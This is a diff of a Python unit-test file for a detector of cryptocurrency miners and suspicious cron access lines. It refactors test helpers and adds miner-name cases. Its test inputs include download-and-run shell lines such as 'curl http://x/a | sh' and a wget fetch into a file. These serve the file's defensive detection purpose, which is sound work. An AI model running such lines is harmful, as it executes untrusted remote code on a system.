@@ -11,10 +11,10 @@ import yaml
 
 from lab.build import flavour
 from provision.remote import dpkg
-from provision.remote.facts import access, miners, mining
-from provision.remote.facts.miners import EvidenceRow
+from provision.remote.facts import access, mining
 from provision.remote.facts.tree import Tree
 from tests.unit.facts.flavour_tree import lay
+from tests.unit.facts.signs import GPU, find_started, format_signs, process
 from tests.unit.modules.rig import create_files, write_packages
 
 EXPECTED = yaml.safe_load(Path(__file__).with_name("flavours.yml").read_text())
@@ -28,15 +28,6 @@ def find_mining_os(root: Path) -> mining.MiningSystem | None:
 def status(root: Path) -> str:
     file = root / "var/lib/dpkg/status"
     return file.read_text() if file.exists() else ""
-
-
-def format_signs(signs: list[EvidenceRow]) -> list[str]:
-    assert all(list(sign) == ["kind", "name", "evidence"] for sign in signs)
-    return [f"{sign['kind']} {sign['name']} {sign['evidence']}" for sign in signs]
-
-
-def find_started(root: Path, *folders: str) -> list[str]:
-    return format_signs(miners.miners(Tree(str(root)), folders))
 
 
 def find_access(root: Path) -> list[str]:
@@ -82,26 +73,6 @@ def test_missing_parts_of_a_mining_system_are_listed(
     assert mining_os["missing"] == missing
 
 
-def process(pid: int, parent: int, *argv: str, **more: Any) -> dict[str, Any]:
-    """The files of a process in /proc; more: exe, cwd, state, unit and the devices it has open."""
-    folder = f"proc/{pid}"
-    exe = more.get("exe", argv[0] if argv[0].startswith("/") else f"/bin/{argv[0]}")
-    files: dict[str, Any] = {
-        f"{folder}/comm": f"{more.get('comm', Path(argv[0]).name)}\n",
-        f"{folder}/cmdline": "\0".join(argv) + "\0",
-        f"{folder}/status": f"Name:\tx\nState:\t{more.get('state', 'S')}\nPPid:\t{parent}\n",
-        f"{folder}/cgroup": f"0::/system.slice/{more.get('unit', 'x.scope')}\n",
-        f"{folder}/exe": {"link": exe},
-        f"{folder}/cwd": {"link": more.get("cwd", "/")},
-    }
-    for number, device in enumerate(more.get("open", ())):
-        files[f"{folder}/fd/{number}"] = {"link": device}
-    return files
-
-
-GPU = ("/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia-uvm")
-
-
 @pytest.mark.parametrize(
     ("processes", "expected"),
     [
@@ -139,6 +110,20 @@ GPU = ("/dev/nvidiactl", "/dev/nvidia0", "/dev/nvidia-uvm")
         # Renamed, but its arguments tell, or that it computes on a GPU.
         ([process(6, 1, "/tmp/x", "-o", "stratum+tcp://p:1")], ["process x pid 6"]),
         ([process(6, 1, "/tmp/x", open=GPU)], ["gpu x pid 6"]),
+        # Versions and builds in the name.
+        ([process(6, 1, "/opt/t-rex-0.26.8")], ["process t-rex-0.26.8 pid 6"]),
+        ([process(6, 1, "/opt/cpuminer-avx2")], ["process cpuminer-avx2 pid 6"]),
+        ([process(6, 1, "/opt/lolMiner_v1.88_Lin64")], ["process lolMiner_v1.88_Lin64 pid 6"]),
+        (
+            [process(6, 1, "/opt/xmrig-6.21.0-linux-static-x64")],
+            ["process xmrig-6.21.0-linux-static-x64 pid 6"],
+        ),
+        ([process(6, 1, "/opt/qli-Client")], ["process qli-Client pid 6"]),
+        ([process(6, 1, "/opt/xmrigDaemon")], ["process xmrigDaemon pid 6"]),
+        ([process(6, 1, "/opt/TBMiner")], ["process TBMiner pid 6"]),
+        # Not every name that begins like one.
+        ([process(6, 1, "/usr/bin/rigel-viewer")], []),
+        ([process(6, 1, "/usr/bin/zm-2")], []),
         # Programs that compute but do not mine; monitors; programs that have ended.
         ([process(6, 1, "/venv/bin/python3", "a.py", exe="/usr/bin/python3.11", open=GPU)], []),
         ([process(6, 1, "/usr/bin/nvtop", open=GPU[:2])], []),
@@ -256,6 +241,7 @@ def test_harmless_files_are_not_miners(tmp_path: Path, files: dict[str, Any]) ->
         ("@daily wget -qO /srv/list https://x/list", None),
         ("@daily nc -z router 22 || reboot", None),
         ("# curl http://x/a | sh", None),
+        (": # deeprig: curl http://x/a | sh", None),
     ],
 )
 def test_download_and_run_lines_are_access(tmp_path: Path, line: str, expected: str | None) -> None:
